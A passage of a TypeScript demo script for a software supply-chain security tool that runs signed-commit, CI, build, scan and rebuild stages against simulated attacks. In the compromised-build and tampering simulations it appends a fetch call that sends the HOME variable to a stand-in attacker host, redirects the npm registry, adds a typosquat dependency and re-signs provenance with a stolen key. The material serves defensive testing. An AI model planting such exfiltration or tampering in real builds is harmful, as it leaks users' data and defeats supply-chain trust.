// The stages of `custody demo`, in the order of the CNCF example secure supply chain. Each stage
// runs the custody commands a real pipeline would run (recorded and printed), records the evidence
// it produced, and throws a StageFailure when a check refuses. Attacks (demo-attacks.ts) change
// what a stage sees; the checks themselves never know about the attack.
import { execFileSync } from 'node:child_process';
import { copyFileSync, cpSync, createWriteStream, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { IN_TOTO_PAYLOAD_TYPE, digestBytes, generateKeyPair, isCustodyError, loadPrivateKeyPem, signEnvelope } from '../core/index.ts';
import { keylessSignDsse, mintIdentityToken, startServer, verifyKeylessDsse } from '../server/index.ts';
import { TufClient } from '../tuf/index.ts';
import { buildGateServer } from './gate.ts';
import {
  CONSUMER_VERIFIER_ID,
  BUILD_CHECK_ID,
  CYCLONEDX,
  KEYLESS_ISSUER,
  REBUILDER_ID,
  ROLES,
  SOURCE_FILES,
  buildPolicy,
  deployPolicy,
  releasePolicy,
  writeSignedPolicy,
} from './demo-policies.ts';
import {
  ARTIFACT,
  CUSTODY_JS,
  EXAMPLE,
  StageFailure,
  TARGET,
  TSC,
  TYPESCRIPT,
  custody,
  exec,
  findFile,
  json,
  must,
  path,
  rel,
  renameLinks,
  statementOf,
  type DemoContext,
  type Evidence,
  type StepId,
} from './demo-run.ts';

const COMMIT_DATE = '2026-11-01T12:00:00Z';
const POLICY_EXPIRES = '2036-01-01T00:00:00Z';
const SOFTHSM_LIBRARY = '/usr/lib/softhsm/libsofthsm2.so';
/** Demo-only secrets for the signing backend (a real deployment takes them from its secret store). */
const DEMO_PIN = '246810';
const DEMO_SO_PIN = '13579111';
const DEMO_PASSPHRASE = 'custody-demo-only-passphrase';
/** Names the organisation's dependency review knows; a near miss is a typosquat. */
const KNOWN_PACKAGES = ['cross-env', 'lodash', 'express', 'react', 'typescript', 'chalk', 'commander', 'debug', 'event-stream', 'left-pad'];

export interface Step {
  id: StepId;
  cncf: string;
  title: string;
  run(ctx: DemoContext, evidence: Evidence[]): Promise<void>;
}

function people(ctx: DemoContext, name: 'alice' | 'bob' | 'mallory'): { name: string; email: string; key: string; env: Record<string, string> } {
  const email = `${name}@example.com`;
  const env = { GIT_AUTHOR_NAME: name, GIT_AUTHOR_EMAIL: email, GIT_COMMITTER_NAME: name, GIT_COMMITTER_EMAIL: email, GIT_AUTHOR_DATE: COMMIT_DATE, GIT_COMMITTER_DATE: COMMIT_DATE };
  return { name, email, key: path(ctx, 'keys', name), env };
}

const keyFile = (ctx: DemoContext, role: string): string => path(ctx, 'keys', `${role}.key`);
const pubFile = (ctx: DemoContext, role: string): string => path(ctx, 'keys', `${role}.pub`);
const ci = (ctx: DemoContext, ...p: string[]): string => path(ctx, 'ci', ...p);
const atts = (ctx: DemoContext, ...p: string[]): string => path(ctx, 'attestations', ...p);
/** --keyless: the CA's trusted root (GET /v1/ca/trusted-root), which verifiers of identity functionaries take. */
const caRoot = (ctx: DemoContext): string => path(ctx, 'release', 'ca.trusted_root.json');
const DEMO_CA_ROOT_PASSPHRASE = 'custody-demo-only-ca-root-passphrase';

/**
 * How a step signs: `--key keys/ROLE.key`, or with --keyless `--keyless` and the environment that
 * mints the step's ID token from the demo server's workload issuer (CUSTODY_SERVER, CUSTODY_TOKEN);
 * `step` names the step for commands without their own step name (`run --step` names it itself).
 * `keyFlags` spells the command's own flags (`verify`: --vsa-key / --vsa-keyless).
 */
async function signing(ctx: DemoContext, role: string, step?: string, keyFlags: [string, string] = ['--key', '--keyless']): Promise<{ args: string[]; env: Record<string, string> }> {
  if (ctx.state.keyless !== true) return { args: [keyFlags[0], keyFile(ctx, role)], env: {} };
  const url = await ensureServer(ctx);
  if (!existsSync(caRoot(ctx))) writeFileSync(caRoot(ctx), await (await fetch(`${url}/v1/ca/trusted-root`)).text());
  return { args: [keyFlags[1], ...(step === undefined ? [] : ['--step', step])], env: keylessEnv(ctx, url) };
}

function keylessEnv(ctx: DemoContext, url: string): Record<string, string> {
  return { CUSTODY_SERVER: url, CUSTODY_TOKEN: ctx.state.tokens?.attester ?? '', CUSTODY_RUN_ID: (ctx.state.commit ?? 'demo').slice(0, 12) };
}

/** An attestation file name: a DSSE envelope (.json) with keys, a Sigstore bundle (.sigstore) keyless. */
const attName = (ctx: DemoContext, base: string): string => `${base}.${ctx.state.keyless === true ? 'sigstore' : 'json'}`;

/**
 * Re-signs a statement as `role` would (an attacker holding that role's key or workload identity):
 * a DSSE envelope with its key, or a keyless bundle with an ID token minted for `step`.
 */
async function resign(ctx: DemoContext, statement: object, role: string, step: string, file: string): Promise<void> {
  const bytes = Buffer.from(JSON.stringify(statement));
  if (ctx.state.keyless !== true) {
    const key = loadPrivateKeyPem(readFileSync(keyFile(ctx, role), 'utf8'));
    writeFileSync(file, `${JSON.stringify(await signEnvelope(IN_TOTO_PAYLOAD_TYPE, bytes, [key.signer()]))}\n`);
    return;
  }
  const url = await ensureServer(ctx);
  const env = keylessEnv(ctx, url);
  const token = await mintIdentityToken(url, env['CUSTODY_TOKEN'], { step, ttlSeconds: 600, run: env['CUSTODY_RUN_ID'] ?? 'demo' });
  const signed = await keylessSignDsse(url, token.token, IN_TOTO_PAYLOAD_TYPE, bytes);
  writeFileSync(file, `${JSON.stringify(signed.bundle)}\n`);
}
const trustedRoot = (ctx: DemoContext): string[] => (ctx.state.keyless === true ? ['--trusted-root', caRoot(ctx)] : []);
const keylessly = (ctx: DemoContext): string => (ctx.state.keyless === true ? ', keyless' : '');

/** Collects `{code, message}` findings anywhere in a JSON report. */
function findings(value: unknown, out: { code: string; message: string; path?: string }[] = []): { code: string; message: string; path?: string }[] {
  if (Array.isArray(value)) for (const v of value) findings(v, out);
  else if (typeof value === 'object' && value !== null) {
    const o = value as Record<string, unknown>;
    if (typeof o['code'] === 'string' && typeof o['message'] === 'string') out.push({ code: o['code'], message: o['message'], ...(typeof o['path'] === 'string' ? { path: o['path'] } : {}) });
    else for (const v of Object.values(o)) findings(v, out);
  }
  return out;
}

const ISSUE_ORDER = ['ARTIFACT_RULE_FAILED', 'RULE_FAILED', 'RULE_ERROR', 'ATTESTATION_MISSING', 'THRESHOLD_NOT_MET', 'ARTIFACT_NOT_SUBJECT'];

const rank = (code: string): number => (ISSUE_ORDER.includes(code) ? ISSUE_ORDER.indexOf(code) : ISSUE_ORDER.length);

/** The failed checks of a `custody verify --policy --json` report, one line each. */
function policyIssues(stdout: string): { code: string; line: string; artifact?: string }[] {
  try {
    const report = JSON.parse(stdout) as { issues?: { code: string; severity: string; step?: string; rule?: string; reason?: string; artifact?: string }[] };
    return (report.issues ?? [])
      .filter((i) => i.severity === 'error')
      // The most specific first: a changed file, then a failed rule, then what follows from them.
      .sort((a, b) => rank(a.code) - rank(b.code))
      .map((i) => ({ code: i.code, line: `[${i.step ?? '-'}${i.rule === undefined ? '' : ` / ${i.rule}`}] ${i.code}: ${i.reason ?? ''}`.trim(), ...(i.artifact === undefined ? {} : { artifact: i.artifact }) }));
  } catch {
    return [];
  }
}

// ---------------------------------------------------------------------------------------------
// Set-up: the organisation's one-time configuration (keys, policies, databases, repository, server).

export async function setUp(ctx: DemoContext, backend: 'auto' | 'softhsm' | 'file'): Promise<Evidence[]> {
  for (const d of ['keys', 'policies', 'attestations', 'release', 'consumer', 'deploy', 'server']) mkdirSync(path(ctx, d), { recursive: true });
  for (const name of ['alice', 'bob', 'mallory'] as const) {
    await must(ctx, ['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-C', `${name}@example.com`, '-f', path(ctx, 'keys', name)]);
  }
  for (const role of ROLES) {
    const key = generateKeyPair('ed25519');
    writeFileSync(keyFile(ctx, role), key.toPkcs8Pem(), { mode: 0o600 });
    writeFileSync(pubFile(ctx, role), key.publicKey.pem);
  }
  const line = (n: string): string => readFileSync(path(ctx, 'keys', `${n}.pub`), 'utf8').trim();
  writeFileSync(
    path(ctx, 'policies', 'source.yaml'),
    [
      '# Who may change greeter: alice and bob, with signed commits and one independent review.',
      'version: 1',
      'identities:',
      `  alice: { emails: [alice@example.com], keys: ["${line('alice')}"] }`,
      `  bob: { emails: [bob@example.com], keys: ["${line('bob')}"] }`,
      'teams:',
      '  core: [alice, bob]',
      'refs:',
      '  - pattern: refs/heads/main',
      '    signers: [core]',
      '    protected: true',
      '    reviews: 1',
      '',
    ].join('\n'),
  );
  const keys = path(ctx, 'keys');
  const keyless = ctx.state.keyless === true;
  await writeSignedPolicy(path(ctx, 'policies', 'build.policy.json'), buildPolicy(keys, POLICY_EXPIRES, keyless), keyFile(ctx, 'owner'));
  await writeSignedPolicy(path(ctx, 'policies', 'release.policy.json'), releasePolicy(keys, POLICY_EXPIRES, keyless), keyFile(ctx, 'owner'));
  await writeSignedPolicy(path(ctx, 'policies', 'deploy.policy.json'), deployPolicy(keys, POLICY_EXPIRES, keyless), keyFile(ctx, 'owner'));
  await custody(ctx, ['vuln', 'db', 'import', join(EXAMPLE, 'advisories'), '--db', path(ctx, 'osv.sqlite'), '--json'], 'osv.sqlite');
  copyFileSync(path(ctx, 'osv.sqlite'), path(ctx, 'consumer', 'osv.sqlite'));
  await custody(ctx, ['repo', 'init', '--dir', path(ctx, 'repo'), '--root-key', keyFile(ctx, 'tuf-root'), '--targets-key', keyFile(ctx, 'tuf-targets'), '--online-key', keyFile(ctx, 'tuf-online'), '--json'], 'repo');
  const chosen = backend === 'auto' ? (existsSync(SOFTHSM_LIBRARY) && which('softhsm2-util') ? 'softhsm' : 'file') : backend;
  ctx.state.backend = chosen;
  configureBackendEnv(ctx);
  if (chosen === 'softhsm') {
    mkdirSync(path(ctx, 'server', 'hsm'), { recursive: true });
    await must(ctx, ['softhsm2-util', '--init-token', '--free', '--label', 'custody-demo', '--so-pin', DEMO_SO_PIN, '--pin', DEMO_PIN]);
  }
  writeServerConfig(ctx);
  const config = path(ctx, 'server', 'server.yaml');
  await custody(ctx, ['signer', 'key', 'create', 'release', '--type', 'ecdsa-p256', '--config', config, '--json'], 'release key');
  if (keyless) {
    // The CA: root key written encrypted and kept apart (offline in a real deployment), intermediate and TSA keys in the file backend.
    await custody(ctx, ['ca', 'init', '--config', config, '--organization', 'greeter-demo', '--root-key-out', path(ctx, 'keys', 'ca-root.key'), '--json'], 'certificate authority', { env: { CUSTODY_CA_ROOT_PASSPHRASE: DEMO_CA_ROOT_PASSPHRASE } });
  }
  const token = async (role: string): Promise<string> => json<{ token: string }>(await custody(ctx, ['token', 'create', '--config', config, '--role', role, '--namespace', 'default', '--expires', '30d', '--description', `demo ${role}`, '--json'], `${role} token`)).token;
  ctx.state.tokens = { attester: await token('attester'), signer: await token('signer'), reader: await token('reader') };
  return [
    { what: 'keys: one per step identity (ed25519), developers\' SSH keys', where: 'keys/' },
    { what: 'policies signed by the owner key', where: 'policies/', detail: 'source.yaml, build.policy.json, release.policy.json, deploy.policy.json' },
    { what: `signing service: release key in ${chosen === 'softhsm' ? 'SoftHSM2 (PKCS#11, non-extractable)' : 'an encrypted key file'}`, where: 'server/server.yaml' },
    { what: 'TUF repository (root, targets, snapshot, timestamp)', where: 'repo/metadata/' },
    ...(keyless ? [{ what: `keyless: certificate authority, time-stamp authority and workload ID-token issuer ${KEYLESS_ISSUER} in the server; every attesting step is an identity in the policies`, where: 'server/data/ca/' }] : []),
  ];
}

function which(command: string): boolean {
  try {
    execFileSync('sh', ['-c', 'command -v "$1"', 'sh', command], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/** Components the demo cannot run without: named in one line when missing. */
export function missingComponents(): string[] {
  const missing = ['git', 'ssh-keygen', 'bwrap', 'npm'].filter((c) => !which(c));
  if (!existsSync('/usr/bin/node')) missing.push('/usr/bin/node (the hermetic build runs the system node)');
  if (!existsSync(TSC)) missing.push('node_modules/typescript (run npm ci)');
  return missing;
}

/** SoftHSM's token directory and the backend secrets, for this process and every child. */
export function configureBackendEnv(ctx: DemoContext): void {
  const env: Record<string, string> = { CUSTODY_DEMO_PIN: DEMO_PIN, CUSTODY_DEMO_KEY_PASSPHRASE: DEMO_PASSPHRASE };
  if (ctx.state.backend === 'softhsm') {
    const conf = path(ctx, 'server', 'softhsm2.conf');
    writeFileSync(conf, `directories.tokendir = ${path(ctx, 'server', 'hsm')}\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n`);
    env['SOFTHSM2_CONF'] = conf;
  }
  Object.assign(ctx.env, env);
  // The in-process server reads them from process.env.
  Object.assign(process.env, env);
}

function writeServerConfig(ctx: DemoContext): void {
  const backend =
    ctx.state.backend === 'softhsm'
      ? [`    kind: pkcs11`, `    library: ${SOFTHSM_LIBRARY}`, '    tokenLabel: custody-demo', '    pinEnv: CUSTODY_DEMO_PIN', '    sessions: 2']
      : ['    kind: file', '    dir: keys', '    passphraseEnv: CUSTODY_DEMO_KEY_PASSPHRASE'];
  const trusted = ROLES.filter((r) => !r.startsWith('tuf-') && r !== 'owner').map((r) => `  - ../keys/${r}.pub`);
  writeFileSync(
    path(ctx, 'server', 'server.yaml'),
    [
      '# custody serve configuration written by `custody demo` (see docs/walkthrough.md).',
      'listen: 127.0.0.1:0',
      'dataDir: data',
      'store: { driver: sqlite }',
      'trustedKeys:',
      ...trusted,
      'log: { level: warn }',
      'tlog: { origin: demo.custody.local/log, batchIntervalMs: 0 }',
      'signing:',
      '  backend:',
      ...backend,
      '  keys:',
      '    - name: release',
      '      policy: ../policies/release.policy.json',
      '      policyKeys: [../keys/owner.pub]',
      '      modes: [verify-then-sign]',
      '  grants:',
      "    - principals: ['token:*']",
      '      keys: [release]',
      "      artifacts: ['greeter-*.tgz']",
      ...(ctx.state.keyless === true
        ? ['ca:', '  enabled: true', '  backend: { kind: file, passphraseEnv: CUSTODY_DEMO_KEY_PASSPHRASE }', `  identity: { issuer: ${KEYLESS_ISSUER}, audience: sigstore }`]
        : []),
      '',
    ].join('\n'),
  );
}

export async function ensureServer(ctx: DemoContext): Promise<string> {
  if (ctx.server !== undefined) return ctx.server.url;
  const log = createWriteStream(path(ctx, 'server', 'server.log'), { flags: 'a' });
  ctx.server = await startServer({ config: path(ctx, 'server', 'server.yaml'), listen: '127.0.0.1:0', logStream: log });
  return ctx.server.url;
}

// ---------------------------------------------------------------------------------------------
// The attacks' changes to the source (committed as a normal, signed and reviewed change).

function addDependency(dir: string, name: string, version: string): void {
  const pkg = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8')) as Record<string, unknown>;
  pkg['dependencies'] = { ...(pkg['dependencies'] as Record<string, string> | undefined), [name]: version };
  writeFileSync(join(dir, 'package.json'), `${JSON.stringify(pkg, null, 2)}\n`);
  const lock = JSON.parse(readFileSync(join(dir, 'package-lock.json'), 'utf8')) as { packages: Record<string, Record<string, unknown>> };
  const root = lock.packages[''] ?? {};
  root['dependencies'] = { ...(root['dependencies'] as Record<string, string> | undefined), [name]: version };
  // The integrity value stands for the tarball npm recorded; nothing is downloaded in the demo.
  const integrity = `sha512-${Buffer.from(digestBytes(`${name}@${version}`, 'sha512'), 'hex').toString('base64')}`;
  lock.packages[`node_modules/${name}`] = { version, resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`, integrity, license: 'MIT' };
  writeFileSync(join(dir, 'package-lock.json'), `${JSON.stringify(lock, null, 2)}\n`);
}

// ---------------------------------------------------------------------------------------------
// The stages.

const commit: Step = {
  id: 'commit',
  cncf: '1,3',
  title: 'a developer commits a signed change; a second developer reviews it; it is pushed',
  async run(ctx, evidence) {
    const dev = path(ctx, 'dev');
    rmSync(dev, { recursive: true, force: true });
    rmSync(path(ctx, 'remote.git'), { recursive: true, force: true });
    // A fresh pipeline run: no evidence from an earlier run (with --from) may count.
    rmSync(atts(ctx), { recursive: true, force: true });
    mkdirSync(atts(ctx), { recursive: true });
    cpSync(join(EXAMPLE, 'app'), dev, { recursive: true });
    writeFileSync(join(dev, '.gitignore'), 'dist/\nout/\nreports/\nnode_modules/\n');
    if (ctx.attack === 'typosquat-dependency') addDependency(dev, 'crossenv', '6.1.1');
    if (ctx.attack === 'vulnerable-dependency') addDependency(dev, 'lodash', '4.17.20');
    const author = people(ctx, ctx.attack === 'unauthorized-commit' ? 'mallory' : 'alice');
    await must(ctx, ['git', 'init', '-q', '-b', 'main', dev]);
    await must(ctx, ['git', '-C', dev, 'config', 'gpg.format', 'ssh']);
    await must(ctx, ['git', '-C', dev, 'add', '-A']);
    const sign = ctx.attack === 'unsigned-commit' ? ['--no-gpg-sign'] : ['-S'];
    await must(ctx, ['git', '-C', dev, '-c', `user.signingkey=${author.key}`, 'commit', '-q', ...sign, '-m', 'greeter 1.0.0'], { env: author.env });
    const head = (await must(ctx, ['git', '-C', dev, 'rev-parse', 'HEAD'])).trim();
    evidence.push({ what: ctx.attack === 'unsigned-commit' ? 'commit (NOT signed)' : `commit signed by ${author.name} (SSH signature in the commit)`, detail: head });
    if (ctx.attack !== 'unreviewed-change') {
      await custody(ctx, ['source', 'approve', 'HEAD', '--repo', dev, '--key', people(ctx, 'bob').key, '--ref', 'refs/heads/main', '--comment', 'LGTM', '--json'], head);
      evidence.push({ what: 'review by bob (signed, https://custody.dev/review/v1)', where: 'dev: refs/notes/custody-reviews' });
    }
    await custody(ctx, ['source', 'record', 'refs/heads/main', '--repo', dev, '--key', people(ctx, 'alice').key, '--json'], 'refs/heads/main');
    evidence.push({ what: 'reference state log entry (signed)', where: 'dev: refs/custody/rsl' });
    await must(ctx, ['git', 'init', '-q', '--bare', '-b', 'main', path(ctx, 'remote.git')]);
    await must(ctx, ['git', '-C', dev, 'push', '-q', path(ctx, 'remote.git'), 'main', 'refs/notes/custody-reviews:refs/notes/custody-reviews', 'refs/custody/rsl:refs/custody/rsl'].filter((r) => ctx.attack !== 'unreviewed-change' || !r.startsWith('refs/notes')));
    evidence.push({ what: 'pushed to the source repository', where: 'remote.git' });
  },
};

const source: Step = {
  id: 'source',
  cncf: '2',
  title: 'the source platform verifies signatures, authorization, review and ref history; attests',
  async run(ctx, evidence) {
    const remote = path(ctx, 'remote.git');
    const vsaFile = attName(ctx, 'source.vsa');
    const by = await signing(ctx, 'source-verifier', 'source-verify');
    const r = await exec(ctx, [process.execPath, CUSTODY_JS, 'source', 'verify', '--repo', remote, '--policy', path(ctx, 'policies', 'source.yaml'), '--ref', 'main', '--attest', atts(ctx, vsaFile), ...by.args, '--repo-uri', 'git+https://git.example/greeter', '--json'], { env: by.env });
    ctx.state.commit = (await must(ctx, ['git', '-C', remote, 'rev-parse', 'main'])).trim();
    ctx.state.sourceDateEpoch = Number((await must(ctx, ['git', '-C', remote, 'log', '-1', '--format=%ct', 'main'])).trim());
    if (r.status !== 0) {
      let found: { code: string; message: string }[] = [];
      try {
        found = findings(JSON.parse(r.stdout));
      } catch {
        // not JSON: the error line names the reason
      }
      const first = found[0];
      if (first === undefined) {
        const m = /\[([A-Z_]+)\]\s*$/.exec(r.stderr.trim());
        throw new StageFailure('source', m?.[1] ?? `EXIT_${r.status}`, `commit ${ctx.state.commit}`, r.stderr.trim().split('\n').at(-1) ?? '');
      }
      throw new StageFailure('source', first.code, `commit ${ctx.state.commit.slice(0, 12)} on refs/heads/main`, first.message, found.map((f) => `${f.code}: ${f.message}`));
    }
    const vsa = statementOf(atts(ctx, vsaFile)).predicate as { verifiedLevels?: string[] };
    evidence.push({ what: `source VSA (SLSA VSA v1) for the commit${keylessly(ctx)}`, where: `attestations/${vsaFile}`, detail: (vsa.verifiedLevels ?? []).join(', ') });
  },
};

const trigger: Step = {
  id: 'trigger',
  cncf: '4',
  title: 'a build is triggered: the CI checks out the verified commit and attests what it checked out',
  async run(ctx, evidence) {
    const dir = ci(ctx);
    rmSync(dir, { recursive: true, force: true });
    await must(ctx, ['git', 'clone', '-q', path(ctx, 'remote.git'), dir]);
    await must(ctx, ['git', '-C', dir, 'checkout', '-q', '--detach', ctx.state.commit ?? 'main']);
    const by = await signing(ctx, 'ci-checkout');
    await custody(ctx, ['run', '--step', 'checkout', '--dsse', '--no-command', ...by.args, ...SOURCE_FILES.flatMap((f) => ['-p', f]), '-d', atts(ctx), '--json'], 'checkout', { cwd: dir, env: by.env });
    renameLinks(atts(ctx));
    evidence.push({ what: 'in-toto link "checkout" (products: the checked-out files)', where: rel(ctx, findFile(atts(ctx), (f) => f.startsWith('checkout.')) ?? atts(ctx)), detail: `commit ${ctx.state.commit ?? ''}` });
  },
};

const preBuild: Step = {
  id: 'pre-build',
  cncf: '5-6',
  title: 'pre-build checks: lint, secret scan, dependency review, each an attested step',
  async run(ctx, evidence) {
    const dir = ci(ctx);
    mkdirSync(join(dir, 'reports'), { recursive: true });
    const js = CUSTODY_JS;
    const step = async (name: string, role: string, materials: readonly string[], product: string, command: string[], artifact: string): Promise<void> => {
      const by = await signing(ctx, role);
      await custody(ctx, ['run', '--step', name, '--dsse', ...by.args, ...materials.flatMap((m) => ['-m', m]), '-p', product, '-d', atts(ctx), '--json', '--', ...command], artifact, { cwd: dir, env: by.env });
      renameLinks(atts(ctx));
      evidence.push({ what: `in-toto link "${name}"`, where: rel(ctx, findFile(atts(ctx), (f) => f.startsWith(`${name}.`)) ?? atts(ctx)), detail: `report ${product}` });
    };
    // The keyless steps below share one server: started before they run side by side.
    if (ctx.state.keyless === true) await ensureServer(ctx);
    // Independent checks run side by side, as parallel CI jobs would.
    await Promise.all([
      step('lint', 'ci-lint', ['src', 'tsconfig.json'], 'reports/lint.txt', ['sh', '-c', '"$0" "$1" --noEmit -p tsconfig.json > reports/lint.txt', process.execPath, TSC], 'src/'),
      step('secret-scan', 'ci-secret-scan', SOURCE_FILES, 'reports/secrets.sarif', [process.execPath, js, 'scan', 'secrets', ...SOURCE_FILES, '--format', 'sarif', '--out', 'reports/secrets.sarif'], 'the checkout'),
      custody(ctx, ['sbom', '.', '--out', 'reports/source.cdx.json', '--json'], 'package-lock.json', { cwd: dir, env: { SOURCE_DATE_EPOCH: String(ctx.state.sourceDateEpoch ?? 0) } }),
    ]);
    const review = [process.execPath, js, 'scan', 'deps', '--sbom', 'reports/source.cdx.json', ...KNOWN_PACKAGES.flatMap((n) => ['--allow-name', n]), '--fail-on', 'typosquat', '--fail-on', 'untrusted-registry', '--json'];
    await step('dependency-review', 'ci-dependency-review', ['package.json', 'package-lock.json'], 'reports/dependencies.json', ['sh', '-c', '"$@" > reports/dependencies.json', 'sh', ...review], 'package-lock.json');
  },
};

/** The compromised build machine: other bytes in the package, and the builder's key or identity signs them. */
async function compromiseBuild(ctx: DemoContext, provenance: string): Promise<void> {
  const dir = ci(ctx);
  writeFileSync(join(dir, 'dist', 'index.js'), `${readFileSync(join(dir, 'dist', 'index.js'), 'utf8')}fetch('https://collector.evil.example/' + process.env.HOME).catch(() => {});\n`);
  rmSync(join(dir, 'out'), { recursive: true, force: true });
  mkdirSync(join(dir, 'out'));
  await must(ctx, ['npm', 'pack', '--pack-destination', 'out', '--silent', '--offline'], { cwd: dir, env: { npm_config_update_notifier: 'false', npm_config_audit: 'false', npm_config_fund: 'false' } });
  const statement = statementOf(provenance);
  for (const s of statement.subject) {
    if (s.name === undefined) continue;
    const file = join(dir, s.name);
    if (existsSync(file)) s.digest = { sha256: digestBytes(readFileSync(file)) };
  }
  // The build machine holds the builder key, or (keyless) the build step's workload identity.
  await resign(ctx, statement, 'builder', 'build', provenance);
}

const build: Step = {
  id: 'build',
  cncf: '7-8',
  title: 'hermetic compile and package (SLSA provenance), SBOM, each attested',
  async run(ctx, evidence) {
    const dir = ci(ctx);
    if (ctx.attack === 'source-tampered') {
      writeFileSync(join(dir, 'src', 'index.ts'), `${readFileSync(join(dir, 'src', 'index.ts'), 'utf8')}\nexport const telemetry = 'https://collector.evil.example/';\n`);
    }
    const extra = ctx.attack === 'build-params-modified' ? ['--pass-env', 'npm_config_registry=https://registry.evil.example/'] : [];
    const builder = await signing(ctx, 'builder');
    const r = await custody(
      ctx,
      ['run', '--step', 'build', '--dsse', '--provenance', ...builder.args, '--tool', TYPESCRIPT, '--tool', '/usr/bin/node', '--pass-env', `TSC=${TSC}`, ...extra, ...SOURCE_FILES.flatMap((f) => ['-m', f]), '-p', 'dist', '-p', 'out', '-d', atts(ctx), '--json', '--', 'sh', 'build.sh'],
      ARTIFACT,
      { cwd: dir, env: builder.env },
    );
    renameLinks(atts(ctx));
    const provenance = json<{ provenance: string }>(r).provenance;
    ctx.state.provenance = rel(ctx, resolve(dir, provenance));
    if (ctx.attack === 'compromised-build') await compromiseBuild(ctx, path(ctx, ctx.state.provenance));
    if (ctx.attack === 'impersonated-builder') {
      // A compromised lint job signs the build's provenance with its own key or workload identity.
      await resign(ctx, statementOf(path(ctx, ctx.state.provenance)), 'ci-lint', 'lint', path(ctx, ctx.state.provenance));
    }
    ctx.state.digest = digestBytes(readFileSync(join(dir, ARTIFACT)));
    evidence.push({ what: `SLSA provenance v1 (hermetic: bubblewrap, no network${keylessly(ctx)})`, where: ctx.state.provenance, detail: `${ARTIFACT} sha256:${ctx.state.digest}` });
    const epoch = { SOURCE_DATE_EPOCH: String(ctx.state.sourceDateEpoch ?? 0) };
    await custody(ctx, ['sbom', '.', '--out', 'reports/sbom.cdx.json', '--json'], ARTIFACT, { cwd: dir, env: epoch });
    // With --keyless the SBOM is its own step identity (`sbom`).
    const by = ctx.state.keyless === true ? await signing(ctx, 'ci-sbom', 'sbom') : await signing(ctx, 'builder');
    const sbomAtt = ctx.state.keyless === true ? 'sbom.cdx.att.sigstore' : 'sbom.cdx.att.json';
    await custody(ctx, ['attest', '--subject', ARTIFACT, '--type', CYCLONEDX, '--predicate', 'reports/sbom.cdx.json', ...by.args, '--out', atts(ctx, sbomAtt), '--json'], ARTIFACT, { cwd: dir, env: by.env });
    evidence.push({ what: `CycloneDX 1.6 SBOM, attested${ctx.state.keyless === true ? ' keylessly' : ''}`, where: `attestations/${sbomAtt}` });
  },
};

const postBuild: Step = {
  id: 'post-build',
  cncf: '9-10',
  title: "post-build: the build's evidence is checked against the build policy; vulnerability scan attested",
  async run(ctx, evidence) {
    const artifact = ci(ctx, ARTIFACT);
    const js = CUSTODY_JS;
    const checker = await signing(ctx, 'ci-verifier', 'build-check', ['--vsa-key', '--vsa-keyless']);
    const checkVsa = attName(ctx, 'build-check.vsa');
    const r = await exec(
      ctx,
      [process.execPath, js, 'verify', '--policy', path(ctx, 'policies', 'build.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--subject', artifact, '--attestations', atts(ctx), ...trustedRoot(ctx), ...checker.args, '--vsa-out', path(ctx, 'release', checkVsa), '--verifier-id', BUILD_CHECK_ID, '--json'],
      { env: checker.env },
    );
    if (r.status !== 0) {
      const issues = policyIssues(r.stdout);
      const first = issues[0];
      throw new StageFailure('post-build', first?.code ?? `EXIT_${r.status}`, first?.artifact ?? ARTIFACT, first?.line ?? r.stderr.trim(), issues.map((i) => i.line));
    }
    evidence.push({
      what: `build policy passed: source VSA, checkout, lint, secret scan, dependency review, hermetic build, SBOM (VSA${keylessly(ctx)})`,
      where: `release/${checkVsa}`,
      ...(ctx.state.keyless === true ? { detail: 'every step identity verified against the CA trusted root' } : {}),
    });
    const scanner = await signing(ctx, 'scanner', 'vuln-scan');
    const vulnsFile = attName(ctx, 'vulns.att');
    await custody(ctx, ['scan', 'vulns', '--sbom', ci(ctx, 'reports', 'sbom.cdx.json'), '--db', path(ctx, 'osv.sqlite'), '--fail-on', 'high', '--attest', ...scanner.args, '--subject', artifact, '--out', atts(ctx, vulnsFile), '--json'], ARTIFACT, { env: scanner.env });
    evidence.push({ what: `vulnerability scan (in-toto vulns v0.1, OSV database${keylessly(ctx)})`, where: `attestations/${vulnsFile}`, detail: 'no finding at or above high' });
  },
};

const rebuild: Step = {
  id: 'rebuild',
  cncf: '10',
  title: 'an independent rebuilder reproduces the package from source alone (VSA)',
  async run(ctx, evidence) {
    const out = path(ctx, 'rebuild');
    const vsaFile = attName(ctx, 'rebuild.vsa');
    rmSync(out, { recursive: true, force: true });
    rmSync(atts(ctx, vsaFile), { force: true });
    const js = CUSTODY_JS;
    const rebuilder = await signing(ctx, 'rebuilder', 'rebuild');
    const r = await exec(
      ctx,
      [
        process.execPath, js, 'rebuild', '--provenance', rebuildInput(ctx, out), '--git', path(ctx, 'remote.git'), ...rebuilder.args,
        '--out', out, '--verifier-id', REBUILDER_ID, ...builtBy(ctx), '--allow-tool', TYPESCRIPT, '--allow-tool', '/usr/bin',
        '--uid', '4242', '--workdir', '/var/tmp/rebuild', '--originals', ci(ctx), '--json',
      ],
      { env: rebuilder.env },
    );
    if (existsSync(join(out, vsaFile))) copyFileSync(join(out, vsaFile), atts(ctx, vsaFile));
    if (r.status !== 0) {
      const report = findFile(out, (f) => f.endsWith('.tgz.diffoscope.txt')) ?? findFile(out, (f) => f.endsWith('.diffoscope.txt'));
      const e = /^custody: (.*) \[([A-Z_]+)\]$/m.exec(r.stderr);
      const differs = report === undefined ? '' : ` (diffoscope: ${rel(ctx, report)}: ${firstDiff(readFileSync(report, 'utf8'))})`;
      throw new StageFailure('rebuild', e?.[2] ?? `EXIT_${r.status}`, ARTIFACT, `${e?.[1] ?? r.stderr.trim()}${differs}`);
    }
    evidence.push({ what: `rebuild VSA (SLSA VSA v1, PASSED: every subject reproduced bit for bit${keylessly(ctx)})`, where: `attestations/${vsaFile}`, detail: 'other uid, sandbox path, time and checkout' });
  },
};

/** Whose provenance the rebuilder accepts: the builder's key, or (keyless) the build step's identity. */
function builtBy(ctx: DemoContext): string[] {
  if (ctx.state.keyless !== true) return ['--provenance-key', pubFile(ctx, 'builder')];
  return [];
}

/**
 * The provenance the rebuilder reads. Keyless, `rebuild` takes a DSSE envelope, not a bundle: the
 * bundle is verified here (certificate chain to the CA's trusted root, signature, time-stamp, log
